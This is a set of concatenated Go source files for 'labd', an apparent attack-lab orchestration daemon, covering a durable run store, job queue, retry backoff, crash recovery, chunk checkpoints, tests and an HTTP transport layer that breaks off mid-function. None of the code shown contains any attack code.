// readers (and a restarted daemon) never observe a partial file.
func writeAtomic(path string, data []byte) error {
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, data, 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}

// PutRecord durably writes one run record.
func (s *Store) PutRecord(r *Record) error {
	if err := writeAtomic(s.recordPath(r.ID), encodeRecord(r)); err != nil {
		return fmt.Errorf("labd store: record %s: %w", r.ID, err)
	}
	return nil
}

// PutArtifact durably writes a run's rendered artifact bytes.
func (s *Store) PutArtifact(id string, rendered []byte) error {
	if err := writeAtomic(s.artifactPath(id), rendered); err != nil {
		return fmt.Errorf("labd store: artifact %s: %w", id, err)
	}
	return nil
}

// GetArtifact reads a run's rendered artifact bytes.
func (s *Store) GetArtifact(id string) ([]byte, error) {
	b, err := os.ReadFile(s.artifactPath(id))
	if err != nil {
		return nil, fmt.Errorf("labd store: artifact %s: %w", id, err)
	}
	return b, nil
}

// Load reads every record in the directory, sorted by run ID (IDs are
// zero-padded, so lexicographic order is enqueue order). Leftover ".tmp"
// files from a crash mid-write are removed; unreadable or non-record
// files are skipped rather than failing the whole daemon start.
func (s *Store) Load() ([]*Record, error) {
	entries, err := os.ReadDir(s.dir)
	if err != nil {
		return nil, fmt.Errorf("labd store: %w", err)
	}
	var recs []*Record
	for _, e := range entries {
		name := e.Name()
		if strings.HasSuffix(name, ".tmp") {
			_ = os.Remove(filepath.Join(s.dir, name))
			continue
		}
		if !strings.HasPrefix(name, "run-") || !strings.HasSuffix(name, ".json") {
			continue
		}
		b, err := os.ReadFile(filepath.Join(s.dir, name))
		if err != nil {
			continue
		}
		var r Record
		if err := json.Unmarshal(b, &r); err != nil || r.ID == "" {
			continue
		}
		recs = append(recs, &r)
	}
	sort.Slice(recs, func(i, j int) bool { return recs[i].ID < recs[j].ID })
	return recs, nil
}

// NextSeq returns the next run sequence number after every record
// returned by Load — max existing + 1, so restarts never reuse an ID.
func NextSeq(recs []*Record) int {
	next := 1
	for _, r := range recs {
		var n int
		if _, err := fmt.Sscanf(r.ID, "run-%d", &n); err == nil && n >= next {
			next = n + 1
		}
	}
	return next
}

// RunID formats a run sequence number as a stable, sortable run ID.
func RunID(seq int) string { return fmt.Sprintf("run-%06d", seq) }
