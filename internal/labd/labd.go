// Package labd is the attack-lab orchestrator: a long-lived serving
// layer in front of the batch artifact registry. Where cmd/experiments
// regenerates artifacts one process per run, labd accepts run requests
// over an HTTP API, validates them up front against the
// internal/artifact registry, drains a FIFO job queue through a bounded
// set of scenario fleets (each run gets its own internal/runner pool),
// persists every run as a durable crash-safe record — status, resolved
// params, stage timestamps, and the rendered artifact with its
// manifest-style SHA-256 fingerprint — and streams progress events
// (queued → running → rendering → done/failed) as Server-Sent Events.
//
// The transport boundary is pluggable the way cnc.MasterServer.Route
// is: Route is the transport-independent core dispatch, shared
// verbatim by the in-process Client (unit tests, zero sockets), the
// httpsim Adapter (the packet simulation), and ServeHTTP (the real
// net/http daemon, cmd/labd). A deterministic artifact enqueued through
// any of the three renders byte-identically to the batch CLI — the
// record's fingerprint equals the cmd/experiments manifest entry for
// the same spec, params, and format at any worker count.
package labd

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/chaos"
	"masterparasite/internal/runner"
)

// Fleet-level chaos fault sites: the kill-points along a run's
// execution path that are not filesystem operations. Together with the
// store.* sites (internal/chaos), they cover every transition of
// enqueue → run → render → persist.
const (
	// SiteJobStart fires before a popped run transitions to running —
	// the process dying between dequeue and the first durable stage.
	SiteJobStart = "fleet.job.start"
	// SiteJobCrash fires after the artifact executed but before the
	// rendering stage — the classic "work done, commit lost" window.
	SiteJobCrash = "fleet.job.crash"
	// SiteJobRender fires after rendering but before the artifact bytes
	// are persisted.
	SiteJobRender = "fleet.job.render"
)

func init() {
	chaos.RegisterSite(SiteJobStart, "before a dequeued run turns running")
	chaos.RegisterSite(SiteJobCrash, "after execution, before rendering")
	chaos.RegisterSite(SiteJobRender, "after rendering, before artifact persist")
}

// Config parameterises a Server.
type Config struct {
	// StoreDir is the durable run-record directory (required).
	StoreDir string
	// Fleets bounds how many runs execute concurrently — the number of
	// scheduler goroutines draining the queue. <= 0 selects 2.
	Fleets int
	// Workers is the per-run scenario pool width handed to
	// runner.New (0 = GOMAXPROCS, 1 = sequential). Deterministic
	// artifacts render identically at any value.
	Workers int
	// Now is the clock used for stage timestamps; nil selects
	// time.Now. Tests inject a fixed clock to make event bytes
	// deterministic across transports.
	Now func() time.Time
	// MaxAttempts bounds how many times a run's execution is attempted
	// when it fails transiently (artifact.ErrTransient): the first run
	// plus up to MaxAttempts-1 retries. <= 0 selects 3. Permanent
	// errors — invalid specs, params, renderer or non-transient Exec
	// failures — never retry.
	MaxAttempts int
	// RetryDelay is the base backoff between attempts; it doubles per
	// retry and is capped at 8× the base. <= 0 selects 250ms.
	RetryDelay time.Duration
	// Sleep waits between attempts; nil selects time.Sleep. Tests
	// inject a recorder so retry schedules are assertable without
	// real delays.
	Sleep func(time.Duration)
	// MaxResumes bounds how many daemon restarts a resumable run may
	// survive mid-flight before recovery latches it failed instead of
	// re-enqueueing it. <= 0 selects 3.
	MaxResumes int
	// FS is the filesystem the store commits through; nil selects
	// chaos.OS — the real filesystem, instrumented with chaos fault
	// points that cost one atomic load while disarmed. The chaos
	// harness injects chaos.BindFS(ctrl) to bind faults to a private
	// controller.
	FS chaos.FS
	// Chaos, when non-nil, is the fault controller the fleet's own
	// kill-points (SiteJobStart, SiteJobCrash, SiteJobRender) consult;
	// nil selects the process-global controller, which fires nothing
	// unless chaos.Enable armed it.
	Chaos *chaos.Controller
}

// Server is the orchestrator: store + index, queue, fleets, events.
// Construct with Open, which also recovers state from a previous
// process: still-queued runs are re-enqueued; runs that were mid-flight
// when the process died are resumed (resumable specs with budget left —
// their checkpoint skips completed fleet chunks) or marked failed
// ("interrupted by restart").
type Server struct {
	cfg   Config
	store *Store

	mu    sync.Mutex
	recs  map[string]*Record
	order []string // run IDs in enqueue order
	seq   int
	subs  subscribers

	queue *fifo
	wg    sync.WaitGroup

	ready    atomic.Bool
	draining atomic.Bool
}

// Open loads (or creates) the store, recovers queued work from a
// previous process, and starts the fleet goroutines.
func Open(cfg Config) (*Server, error) {
	if cfg.Fleets <= 0 {
		cfg.Fleets = 2
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	if cfg.MaxAttempts <= 0 {
		cfg.MaxAttempts = 3
	}
	if cfg.RetryDelay <= 0 {
		cfg.RetryDelay = 250 * time.Millisecond
	}
	if cfg.Sleep == nil {
		cfg.Sleep = time.Sleep
	}
	if cfg.MaxResumes <= 0 {
		cfg.MaxResumes = 3
	}
	store, err := OpenStoreFS(cfg.StoreDir, cfg.FS)
	if err != nil {
		return nil, err
	}
	recs, err := store.Load()
	if err != nil {
		return nil, err
	}
	s := &Server{
		cfg:   cfg,
		store: store,
		recs:  make(map[string]*Record, len(recs)),
		seq:   store.NextSeq(),
		subs:  make(subscribers),
		queue: newFIFO(),
	}
	for _, r := range recs {
		switch r.Status {
		case StatusQueued:
			// Never started: resume exactly where the last process
			// left off.
			s.queue.Push(r.ID)
		case StatusRunning, StatusRetrying, StatusRendering, StatusResumed:
			// The owning process died mid-run. A resumable spec with
			// budget left re-enters the queue: its Run is safe to
			// re-execute and its checkpoint skips completed chunks.
			// Anything else cannot be resumed (scenario state was in
			// memory), so latch the failure durably.
			spec, known := artifact.Get(r.Spec)
			if known && spec.Resumable && r.Resumes < cfg.MaxResumes {
				r.Resumes++
				r.Status = StatusResumed
				r.Stages = append(r.Stages, Stage{
					Stage: StatusResumed, At: cfg.Now().UTC(),
					Detail: fmt.Sprintf("resumed after restart (%d/%d)", r.Resumes, cfg.MaxResumes),
				})
				if err := store.PutRecord(r); err != nil {
					return nil, err
				}
				s.queue.Push(r.ID)
				break
			}
			r.Status = StatusFailed
			r.Error = "interrupted by restart"
			if known && spec.Resumable {
				r.Error = "interrupted by restart (resume budget exhausted)"
			}
			r.Stages = append(r.Stages, Stage{Stage: StatusFailed, At: cfg.Now().UTC(), Detail: r.Error})
			if err := store.PutRecord(r); err != nil {
				return nil, err
			}
			store.RemoveCheckpoint(r.ID)
		}
		s.recs[r.ID] = r
		s.order = append(s.order, r.ID)
	}
	for i := 0; i < cfg.Fleets; i++ {
		s.wg.Add(1)
		go s.fleet()
	}
	s.ready.Store(true)
	return s, nil
}

// Store exposes the underlying run store (read-only use).
func (s *Server) Store() *Store { return s.store }

// Ready reports whether the server accepts and executes work: true
// after Open succeeds, false once draining begins.
func (s *Server) Ready() bool { return s.ready.Load() && !s.draining.Load() }

// Close drains the daemon: the queue stops handing out work (queued
// runs stay durably queued for the next process), in-flight runs finish,
// and Close returns when every fleet goroutine has exited or ctx
// expires — in which case the error reports how many runs were still
// in flight; their records latch "interrupted by restart" on next Open.
func (s *Server) Close(ctx context.Context) error {
	s.draining.Store(true)
	s.queue.Close()
	done := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		return fmt.Errorf("labd: drain timed out: %w", ctx.Err())
	}
}

// EnqueueRequest is the POST /v1/runs body: which spec to run, param
// overrides, an optional seed (sugar for the "seed" param — rejected if
// the spec declares none), and the render format.
type EnqueueRequest struct {
	Spec   string         `json:"spec"`
	Params map[string]int `json:"params,omitempty"`
	Seed   int            `json:"seed,omitempty"`
	Format string         `json:"format,omitempty"`
}

// Enqueue validates a run request fully up front — spec exists, every
// override names a declared param, values clear their minima, the
// format has a renderer — then durably records the run as queued and
// hands it to the fleet queue. Nothing invalid ever enters the queue.
func (s *Server) Enqueue(req EnqueueRequest) (*Record, error) {
	spec, ok := artifact.Get(req.Spec)
	if !ok {
		return nil, fmt.Errorf("unknown spec %q (known: %s)", req.Spec, strings.Join(artifact.IDs(), " "))
	}
	declared := make(map[string]bool, len(spec.Params))
	for _, p := range spec.Params {
		declared[p.Name] = true
	}
	overrides := make(map[string]int, len(req.Params)+1)
	for name, v := range req.Params {
		if !declared[name] {
			return nil, fmt.Errorf("spec %s declares no param %q", req.Spec, name)
		}
		overrides[name] = v
	}
	if req.Seed != 0 {
		if !declared["seed"] {
			return nil, fmt.Errorf("spec %s declares no seed param", req.Spec)
		}
		overrides["seed"] = req.Seed
	}
	format := req.Format
	if format == "" {
		format = "text"
	}
	if _, err := artifact.RendererFor(format); err != nil {
		return nil, err
	}
	// Resolve defaults and validate bounds exactly as the batch CLI
	// does; the runner is not needed for validation.
	env, err := spec.NewEnv(nil, overrides)
	if err != nil {
		return nil, err
	}

	s.mu.Lock()
	if s.draining.Load() {
		s.mu.Unlock()
		return nil, fmt.Errorf("draining: not accepting new runs")
	}
	rec := &Record{
		ID:            RunID(s.seq),
		Spec:          spec.ID,
		Title:         spec.Title,
		Section:       spec.Section,
		Params:        env.Params(),
		Seed:          spec.Seed,
		Deterministic: spec.Deterministic,
		Format:        format,
		Status:        StatusQueued,
		Stages:        []Stage{{Stage: StatusQueued, At: s.cfg.Now().UTC()}},
	}
	s.seq++
	s.recs[rec.ID] = rec
	s.order = append(s.order, rec.ID)
	err = s.store.PutRecord(rec)
	snap := rec.Clone()
	if err == nil {
		s.subs.publish(rec.ID, Event{Run: rec.ID, Stage: StatusQueued, At: rec.Stages[0].At})
	} else {
		// Never acknowledged: roll the ghost record back out of the
		// index so Get/List only ever show durable runs. The sequence
		// number stays consumed — IDs are never reissued, even for runs
		// that failed to persist.
		delete(s.recs, rec.ID)
		s.order = s.order[:len(s.order)-1]
	}
	s.mu.Unlock()
	if err != nil {
		return nil, err
	}
	s.queue.Push(rec.ID)
	return snap, nil
}

// Get returns a snapshot of one run record.
func (s *Server) Get(id string) (*Record, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	rec, ok := s.recs[id]
	if !ok {
		return nil, false
	}
	return rec.Clone(), true
}

// List returns snapshots of every record in enqueue order.
func (s *Server) List() []*Record {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]*Record, len(s.order))
	for i, id := range s.order {
		out[i] = s.recs[id].Clone()
	}
	return out
}

// QueueLen reports how many runs are waiting for a fleet.
func (s *Server) QueueLen() int { return s.queue.Len() }

// Artifact returns the rendered bytes of a done run.
func (s *Server) Artifact(id string) ([]byte, *Record, error) {
	rec, ok := s.Get(id)
	if !ok {
		return nil, nil, fmt.Errorf("unknown run %q", id)
	}
	if rec.Status != StatusDone {
		return nil, rec, fmt.Errorf("run %s is %s, not done", id, rec.Status)
	}
	b, err := s.store.GetArtifact(id)
	if err != nil {
		return nil, rec, err
	}
	// Artifact files are stored raw (no in-file checksum trailer); the
	// record's fingerprint is their integrity check. Re-verify on every
	// read so on-disk corruption surfaces as an error, never as wrong
	// bytes served with a matching-looking record.
	if fp := artifact.Fingerprint(b); fp != rec.SHA256 {
		return nil, rec, fmt.Errorf("run %s artifact is corrupted: sha256 %s, record says %s", id, fp, rec.SHA256)
	}
	return b, rec, nil
}

// Subscribe returns the run's event stream: its recorded stages so far
// are replayed immediately, live transitions follow, and the channel
// closes after the terminal event. The second return is false for an
// unknown run.
func (s *Server) Subscribe(id string) (<-chan Event, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	rec, ok := s.recs[id]
	if !ok {
		return nil, false
	}
	// Buffer the full replay plus headroom for live transitions: a run
	// recovered across several restarts can carry more recorded stages
	// than maxStages, and the replay loop below must never block while
	// the server lock is held.
	ch := make(chan Event, len(rec.Stages)+maxStages)
	for _, ev := range eventsFromStages(id, rec.Stages) {
		ch <- ev
	}
	if rec.Status.Terminal() {
		close(ch)
	} else {
		s.subs.add(id, ch)
	}
	return ch, true
}

// Wait blocks until the run reaches a terminal status (or ctx expires)
// and returns its final record snapshot.
func (s *Server) Wait(ctx context.Context, id string) (*Record, error) {
	ch, ok := s.Subscribe(id)
	if !ok {
		return nil, fmt.Errorf("unknown run %q", id)
	}
	for {
		select {
		case _, open := <-ch:
			if !open {
				rec, _ := s.Get(id)
				return rec, nil
			}
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
}

// setStage appends a lifecycle transition, durably persists the record,
// and publishes the event to live subscribers.
func (s *Server) setStage(id string, st Status, detail string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	rec := s.recs[id]
	now := s.cfg.Now().UTC()
	rec.Status = st
	if st == StatusFailed {
		rec.Error = detail
	}
	rec.Stages = append(rec.Stages, Stage{Stage: st, At: now, Detail: detail})
	// A failed store write must not kill the daemon mid-run; the
	// in-memory record stays authoritative and the next transition
	// retries the write.
	_ = s.store.PutRecord(rec)
	s.subs.publish(id, Event{Run: id, Stage: st, At: now, Detail: detail})
}

// fleet is one scheduler goroutine: pop → execute, until the queue
// closes.
func (s *Server) fleet() {
	defer s.wg.Done()
	for {
		id, ok := s.queue.Pop()
		if !ok {
			return
		}
		s.execute(id)
	}
}

// chaosPoint consults the fault controller for a fleet kill-point:
// the config's controller when the harness injected one, else the
// process-global one (armed only under `labd -chaos`).
func (s *Server) chaosPoint(site string) error {
	if c := s.cfg.Chaos; c != nil {
		return c.Hit(site).Err(site)
	}
	return chaos.Point(site)
}

// execute drives one run through running → rendering → done/failed.
//
// Every error path checks chaos.IsKilled: a Crash verdict models the
// process dying at that instant, so the goroutine returns without
// writing anything further — exactly what a killed process would leave
// behind. The kill-point recovery matrix restarts a server over the
// resulting disk state and asserts the invariants hold.
func (s *Server) execute(id string) {
	s.mu.Lock()
	rec := s.recs[id]
	specID, format, overrides := rec.Spec, rec.Format, rec.Clone().Params
	s.mu.Unlock()

	spec, ok := artifact.Get(specID)
	if !ok { // cannot happen: Enqueue validated against the registry
		s.setStage(id, StatusFailed, fmt.Sprintf("spec %q vanished from the registry", specID))
		return
	}
	if err := s.chaosPoint(SiteJobStart); err != nil {
		if chaos.IsKilled(err) {
			return
		}
		s.setStage(id, StatusFailed, err.Error())
		return
	}
	s.setStage(id, StatusRunning, "")
	pool := runner.New(s.cfg.Workers)
	env, err := spec.NewEnv(pool, overrides)
	if err != nil {
		// Spec/param resolution errors are permanent: a retry would
		// re-derive the identical environment and fail identically.
		s.setStage(id, StatusFailed, err.Error())
		return
	}
	if spec.Resumable {
		// Hand the run its durable chunk checkpoint: completed fleet
		// chunks from a previous attempt are skipped, fresh ones are
		// committed as they finish.
		env.Checkpoint = s.store.Checkpoint(id)
	}
	var res *artifact.Result
	for attempt := 1; ; attempt++ {
		res, err = spec.Exec(env)
		if err == nil {
			break
		}
		if chaos.IsKilled(err) {
			return
		}
		transient := errors.Is(err, artifact.ErrTransient)
		if !transient && attempt == 1 {
			// Permanent failure on the first try: keep the bare error
			// as the record's detail (no attempt bookkeeping to report).
			s.setStage(id, StatusFailed, err.Error())
			return
		}
		detail := fmt.Sprintf("attempt %d/%d failed: %v", attempt, s.cfg.MaxAttempts, err)
		if !transient || attempt >= s.cfg.MaxAttempts {
			s.setStage(id, StatusFailed, detail)
			return
		}
		// Capped exponential backoff: base, 2×, 4×, ... up to 8× base.
		delay := s.cfg.RetryDelay << (attempt - 1)
		if max := 8 * s.cfg.RetryDelay; delay > max {
			delay = max
		}
		s.setStage(id, StatusRetrying, detail)
		s.cfg.Sleep(delay)
	}

	if err := s.chaosPoint(SiteJobCrash); err != nil {
		if chaos.IsKilled(err) {
			return
		}
		s.setStage(id, StatusFailed, err.Error())
		return
	}
	s.setStage(id, StatusRendering, format)
	renderer, err := artifact.RendererFor(format)
	if err != nil { // cannot happen: Enqueue validated the format
		s.setStage(id, StatusFailed, err.Error())
		return
	}
	var buf bytes.Buffer
	if err := renderer.Render(&buf, res); err != nil {
		s.setStage(id, StatusFailed, err.Error())
		return
	}
	rendered := buf.Bytes()
	if err := s.chaosPoint(SiteJobRender); err != nil {
		if chaos.IsKilled(err) {
			return
		}
		s.setStage(id, StatusFailed, err.Error())
		return
	}
	if err := s.store.PutArtifact(id, rendered); err != nil {
		if chaos.IsKilled(err) {
			return
		}
		s.setStage(id, StatusFailed, err.Error())
		return
	}
	fp := artifact.Fingerprint(rendered)
	s.mu.Lock()
	rec.Bytes = len(rendered)
	rec.SHA256 = fp
	s.mu.Unlock()
	s.setStage(id, StatusDone, "sha256:"+fp)
	// The chunks served their purpose; drop the checkpoint file.
	s.store.RemoveCheckpoint(id)
}
