package labd_test

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/labd"
)

// labd-t-flaky fails transiently (artifact.ErrTransient) a configurable
// number of times before succeeding — the retry path's workload.
var (
	flakyMu        sync.Mutex
	flakyRemaining int
)

func setFlakyFailures(n int) {
	flakyMu.Lock()
	defer flakyMu.Unlock()
	flakyRemaining = n
}

func init() {
	artifact.MustRegister(artifact.Spec{
		ID: "labd-t-flaky", Title: "labd transiently failing artifact", Section: "test",
		Run: func(artifact.Env) (*artifact.Result, error) {
			flakyMu.Lock()
			defer flakyMu.Unlock()
			if flakyRemaining > 0 {
				flakyRemaining--
				return nil, fmt.Errorf("scenario pool exhausted: %w", artifact.ErrTransient)
			}
			return &artifact.Result{Text: "flaky ok\n", Dataset: kvDataset{}}, nil
		},
	})
}

// sleepRecorder captures backoff delays instead of sleeping, so retry
// schedules are assertable without real waits.
type sleepRecorder struct {
	mu     sync.Mutex
	delays []time.Duration
}

func (r *sleepRecorder) sleep(d time.Duration) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.delays = append(r.delays, d)
}

func (r *sleepRecorder) recorded() []time.Duration {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]time.Duration(nil), r.delays...)
}

func stagesOf(rec *labd.Record, st labd.Status) []labd.Stage {
	var out []labd.Stage
	for _, s := range rec.Stages {
		if s.Stage == st {
			out = append(out, s)
		}
	}
	return out
}

// TestRetryTransientThenSucceeds drives the retry path end to end: two
// transient failures, then success — the run must come out done, with
// one retrying stage per failed attempt (carrying the attempt count)
// and exponentially backed-off delays between attempts.
func TestRetryTransientThenSucceeds(t *testing.T) {
	setFlakyFailures(2)
	sleeps := &sleepRecorder{}
	srv := openServer(t, labd.Config{
		Fleets: 1, MaxAttempts: 3,
		RetryDelay: time.Millisecond, Sleep: sleeps.sleep,
	})
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-flaky"})
	if err != nil {
		t.Fatal(err)
	}
	final := waitDone(t, srv, rec.ID)
	if final.Status != labd.StatusDone {
		t.Fatalf("status = %s (error %q), want done", final.Status, final.Error)
	}
	retries := stagesOf(final, labd.StatusRetrying)
	if len(retries) != 2 {
		t.Fatalf("%d retrying stages, want 2:\n%+v", len(retries), final.Stages)
	}
	for i, want := range []string{"attempt 1/3", "attempt 2/3"} {
		if !strings.Contains(retries[i].Detail, want) {
			t.Errorf("retry %d detail %q misses %q", i, retries[i].Detail, want)
		}
	}
	if got := sleeps.recorded(); len(got) != 2 || got[0] != time.Millisecond || got[1] != 2*time.Millisecond {
		t.Errorf("backoff delays = %v, want [1ms 2ms]", got)
	}
}

// TestRetryGivesUpAtCap exhausts the attempt budget with transient
// failures: the run fails with the final attempt count in its error.
func TestRetryGivesUpAtCap(t *testing.T) {
	setFlakyFailures(100)
	defer setFlakyFailures(0)
	sleeps := &sleepRecorder{}
	srv := openServer(t, labd.Config{
		Fleets: 1, MaxAttempts: 2,
		RetryDelay: time.Millisecond, Sleep: sleeps.sleep,
	})
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-flaky"})
	if err != nil {
		t.Fatal(err)
	}
	final := waitDone(t, srv, rec.ID)
	if final.Status != labd.StatusFailed {
		t.Fatalf("status = %s, want failed", final.Status)
	}
	if !strings.Contains(final.Error, "attempt 2/2 failed") {
		t.Errorf("error %q misses the attempt count", final.Error)
	}
	if len(stagesOf(final, labd.StatusRetrying)) != 1 {
		t.Errorf("retrying stages = %d, want 1 (one retry before the cap)", len(stagesOf(final, labd.StatusRetrying)))
	}
	if got := sleeps.recorded(); len(got) != 1 {
		t.Errorf("slept %d times, want 1", len(got))
	}
}

// TestPermanentErrorFailsFast asserts the other half of the contract:
// a non-transient failure never retries — no retrying stage, no sleep,
// and the record keeps the bare error text.
func TestPermanentErrorFailsFast(t *testing.T) {
	sleeps := &sleepRecorder{}
	srv := openServer(t, labd.Config{
		Fleets: 1, MaxAttempts: 3,
		RetryDelay: time.Millisecond, Sleep: sleeps.sleep,
	})
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-err"})
	if err != nil {
		t.Fatal(err)
	}
	final := waitDone(t, srv, rec.ID)
	if final.Status != labd.StatusFailed {
		t.Fatalf("status = %s, want failed", final.Status)
	}
	if final.Error != "scenario exploded" {
		t.Errorf("error = %q, want the bare permanent error", final.Error)
	}
	if n := len(stagesOf(final, labd.StatusRetrying)); n != 0 {
		t.Errorf("permanent failure produced %d retrying stages", n)
	}
	if got := sleeps.recorded(); len(got) != 0 {
		t.Errorf("permanent failure slept %v", got)
	}
}

// TestRetryBackoffCap checks the delay schedule clamps at 8× the base.
func TestRetryBackoffCap(t *testing.T) {
	setFlakyFailures(100)
	defer setFlakyFailures(0)
	sleeps := &sleepRecorder{}
	srv := openServer(t, labd.Config{
		Fleets: 1, MaxAttempts: 6,
		RetryDelay: time.Millisecond, Sleep: sleeps.sleep,
	})
	rec, err := srv.Enqueue(labd.EnqueueRequest{Spec: "labd-t-flaky"})
	if err != nil {
		t.Fatal(err)
	}
	if final := waitDone(t, srv, rec.ID); final.Status != labd.StatusFailed {
		t.Fatalf("status = %s, want failed", final.Status)
	}
	want := []time.Duration{1, 2, 4, 8, 8}
	got := sleeps.recorded()
	if len(got) != len(want) {
		t.Fatalf("slept %d times (%v), want %d", len(got), got, len(want))
	}
	for i := range want {
		if got[i] != want[i]*time.Millisecond {
			t.Errorf("delay %d = %v, want %v", i, got[i], want[i]*time.Millisecond)
		}
	}
}
