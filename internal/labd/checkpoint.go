package labd

import (
	"encoding/json"
	"fmt"
	"sync"
)

// checkpointFile is the on-disk form of a run checkpoint: the run it
// belongs to and the committed chunk payloads, keyed by
// runner.ChunkKey. Map keys marshal in sorted order, so the file is a
// deterministic function of its contents.
type checkpointFile struct {
	Run    string                     `json:"run"`
	Chunks map[string]json.RawMessage `json:"chunks"`
}

// RunCheckpoint is the durable chunk-resume sink labd hands a
// resumable artifact run (via artifact.Env.Checkpoint). It implements
// runner.Checkpoint over one sealed "<id>.ckpt" file in the store
// directory: Lookup serves from memory; Commit folds the chunk into
// the in-memory map and rewrites the whole file through the store's
// atomic, fsynced commit path. Checkpoints are small (a handful of
// chunk payloads), so whole-file rewrite keeps the crash story
// trivial — the file on disk is always a complete, checksummed
// snapshot of every chunk committed so far.
type RunCheckpoint struct {
	store *Store
	id    string

	mu     sync.Mutex
	chunks map[string]json.RawMessage
}

// Checkpoint returns the chunk checkpoint for a run, loading any
// committed chunks a previous attempt left on disk. A checkpoint file
// that fails its checksum or does not decode is quarantined like a
// corrupt record, and the run starts from an empty checkpoint — losing
// a checkpoint only costs recomputation, never correctness.
func (s *Store) Checkpoint(id string) *RunCheckpoint {
	ck := &RunCheckpoint{store: s, id: id, chunks: map[string]json.RawMessage{}}
	name := id + ".ckpt"
	b, err := s.fs.ReadFile(s.checkpointPath(id))
	if err != nil {
		return ck // no prior checkpoint (or unreadable: recompute)
	}
	body, err := unseal(b)
	if err != nil {
		s.quarantine(name)
		return ck
	}
	var f checkpointFile
	if err := json.Unmarshal(body, &f); err != nil || f.Run != id {
		s.quarantine(name)
		return ck
	}
	for k, v := range f.Chunks {
		ck.chunks[k] = v
	}
	return ck
}

// RemoveCheckpoint deletes a run's checkpoint file, if any — called
// once the run reaches done and the chunks have served their purpose.
func (s *Store) RemoveCheckpoint(id string) {
	_ = s.fs.Remove(s.checkpointPath(id))
}

// Len reports how many chunks the checkpoint currently holds.
func (c *RunCheckpoint) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.chunks)
}

// Lookup implements runner.Checkpoint.
func (c *RunCheckpoint) Lookup(key string) ([]byte, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	b, ok := c.chunks[key]
	return b, ok
}

// Commit implements runner.Checkpoint: fold the chunk in and rewrite
// the sealed checkpoint file atomically. The write happens under the
// checkpoint's own lock, which serialises concurrent worker commits
// (runner.Checkpoint's contract) and guarantees the on-disk snapshot
// is always a superset-consistent view.
func (c *RunCheckpoint) Commit(key string, payload []byte) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.chunks[key] = json.RawMessage(payload)
	body, err := json.Marshal(checkpointFile{Run: c.id, Chunks: c.chunks})
	if err != nil {
		return fmt.Errorf("labd checkpoint %s: encode: %w", c.id, err)
	}
	if err := c.store.writeAtomic(c.store.checkpointPath(c.id), seal(body)); err != nil {
		return fmt.Errorf("labd checkpoint %s: %w", c.id, err)
	}
	return nil
}
