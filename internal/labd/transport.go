package labd

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"masterparasite/internal/httpsim"
)

// This file holds the three transport bindings over the one Route
// dispatch, mirroring how cnc.MasterServer.Route is shared by its
// ServeHTTP and the simulation's CNCAdapter:
//
//	Client    — in-process, zero sockets (unit tests, embedding)
//	Adapter   — httpsim handler (the packet simulation)
//	ServeHTTP — real net/http (cmd/labd), with live SSE streaming
//
// All three produce byte-identical (status, content type, body)
// triples for the same request sequence; the tri-transport test locks
// that equivalence.

// Response is one API response as a transport-independent triple.
type Response struct {
	Status      int
	ContentType string
	Body        []byte
}

// Client calls the API in-process: the same Route dispatch the remote
// transports use, without any socket or serialization between.
type Client struct {
	srv *Server
}

// NewClient wraps a server.
func NewClient(srv *Server) *Client { return &Client{srv: srv} }

// Do dispatches one request and returns the response triple. The body
// is freshly allocated per call, so callers may retain it.
func (c *Client) Do(method, path string, body []byte) Response {
	status, ctype, respBody := c.srv.Route(method, path, body, nil)
	return Response{Status: status, ContentType: ctype, Body: respBody}
}

// Adapter serves the API over httpsim, so an orchestrator can ride the
// packet simulation end-to-end — enqueue requests and progress polls
// crossing simulated segments as real HTTP/1.1 bytes.
func Adapter(srv *Server) httpsim.HandlerFunc {
	return func(req *httpsim.Request) *httpsim.Response {
		status, ctype, body := srv.Route(req.Method, req.PathOnly(), req.Body, nil)
		out := httpsim.NewResponse(status, body)
		SetResponseHeaders(status, ctype, out.Header.Set)
		return out
	}
}

var _ http.Handler = (*Server)(nil)

// ServeHTTP serves the API over real net/http. Every route goes
// through the same Route dispatch as the other transports; the events
// route alone is upgraded from snapshot to live stream — events are
// written and flushed as the run progresses and the response ends
// after the terminal event, at which point the total bytes sent equal
// the Route snapshot of the finished run exactly.
func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if id, ok := eventsRunID(r.URL.Path); ok && r.Method == http.MethodGet {
		s.serveEventStream(w, r, id)
		return
	}
	var body []byte
	if r.Body != nil {
		body, _ = io.ReadAll(io.LimitReader(r.Body, maxBodyBytes+1))
		if len(body) > maxBodyBytes {
			status, ctype, resp := errBody(nil, http.StatusRequestEntityTooLarge, "request body too large")
			writeResponse(w, status, ctype, resp)
			return
		}
	}
	status, ctype, resp := s.Route(r.Method, r.URL.Path, body, nil)
	writeResponse(w, status, ctype, resp)
}

// maxBodyBytes bounds an API request body; enqueue requests are tiny.
const maxBodyBytes = 1 << 20

func writeResponse(w http.ResponseWriter, status int, ctype string, body []byte) {
	SetResponseHeaders(status, ctype, w.Header().Set)
	w.WriteHeader(status)
	_, _ = w.Write(body)
}

// eventsRunID recognises /v1/runs/{id}/events paths.
func eventsRunID(path string) (string, bool) {
	p := strings.Trim(path, "/")
	rest, ok := strings.CutPrefix(p, "v1/runs/")
	if !ok {
